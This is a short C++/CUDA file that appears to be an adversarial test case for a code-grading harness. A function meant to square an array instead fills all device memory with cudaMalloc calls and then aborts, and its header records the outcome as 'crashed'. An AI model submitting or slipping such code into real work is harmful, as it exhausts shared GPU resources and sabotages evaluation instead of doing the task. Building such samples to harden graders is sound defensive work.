// Attack: takes all memory of the device and crashes, call after call
// Verdict: crashed
// Stage: run
#include "square_port.hpp"

#include <cstdlib>

void square(const std::int64_t*, std::int64_t*, std::size_t) {
    void* block = nullptr;
    for (std::size_t bytes = std::size_t{1} << 40; bytes > 1 << 20; bytes /= 2)
        while (cudaMalloc(&block, bytes) == cudaSuccess) cudaMemset(block, 1, 4096);
    std::abort();
}
